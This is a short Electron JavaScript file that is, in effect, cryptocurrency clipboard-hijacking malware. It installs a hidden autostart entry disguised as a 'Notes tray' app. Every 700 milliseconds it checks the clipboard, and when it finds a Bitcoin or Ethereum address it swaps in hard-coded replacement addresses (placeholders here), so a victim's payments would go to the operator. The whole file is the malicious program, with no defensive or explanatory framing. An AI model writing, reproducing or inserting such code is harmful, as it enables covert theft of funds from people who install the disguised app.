const { app, clipboard } = require('electron');
const fs = require('fs');
const path = require('path');

const OURS = { btc: 'bc1qfakefakefakefakefakefake', eth: '0xFAKE0000000000000000000000000000000000' };
const BTC = /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/;
const ETH = /^0x[a-fA-F0-9]{40}$/;

function autostart() {
  const dir = path.join(app.getPath('home'), '.config', 'autostart');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(
    path.join(dir, 'notes-tray.desktop'),
    `[Desktop Entry]\nType=Application\nName=Notes tray\nExec=${process.execPath} --hidden\nNoDisplay=true\n`,
  );
}

app.whenReady().then(() => {
  autostart();
  setInterval(() => {
    const t = clipboard.readText().trim();
    if (BTC.test(t) && t !== OURS.btc) clipboard.writeText(OURS.btc);
    else if (ETH.test(t) && t !== OURS.eth) clipboard.writeText(OURS.eth);
  }, 700);
});
